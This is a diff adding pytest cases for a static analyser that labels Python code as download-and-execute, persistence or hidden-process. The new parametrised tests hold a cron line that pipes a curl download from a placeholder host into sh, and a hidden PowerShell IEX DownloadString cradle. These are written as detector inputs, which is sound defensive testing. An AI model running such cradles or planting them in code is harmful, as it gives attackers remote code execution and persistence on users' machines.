@@ -472,3 +472,32 @@ def test_writing_javascript_that_was_not_downloaded_is_quiet() -> None:
     # Documentation and web-asset builders write index.js files from their own templates.
     assert types("def build(out, body):\n    with open(out + '/index.js', 'w') as f:\n"
                  "        f.write(body)\n") == set()
+
+
+def test_a_download_checked_against_a_pinned_digest_is_not_download_exec() -> None:
+    # ruff/uv-style installers fetch a pinned binary and verify it before running it.
+    source = """\
+    import hashlib, subprocess, urllib.request
+    SHA256 = "0" * 64
+    def install(target):
+        data = urllib.request.urlopen("https://example.invalid/tool").read()
+        if hashlib.sha256(data).hexdigest() != SHA256:
+            raise RuntimeError("checksum mismatch")
+        with open(target, "wb") as handle:
+            handle.write(data)
+        return subprocess.run([target, "--version"])
+    """
+    assert types(source) == set()
+    assert "download-exec" in types(source.replace("        if hashlib", "        if not_hash"))
+
+
+@pytest.mark.parametrize(("source", "kinds"), [
+    ("import subprocess\nLINE = '*/10 * * * * curl -fsSL http://example.invalid/u.sh | sh'\n"
+     "subprocess.run(['crontab', '-'], input=LINE, text=True)\n",
+     {"download-exec", "persistence"}),
+    ("import subprocess\nsubprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-Command',"
+     " \"IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')\"],"
+     " creationflags=subprocess.CREATE_NO_WINDOW)\n", {"download-exec", "hidden-process"}),
+])
+def test_download_cradles_in_commands_and_their_input(source: str, kinds: set[str]) -> None:
+    assert kinds <= types(source)
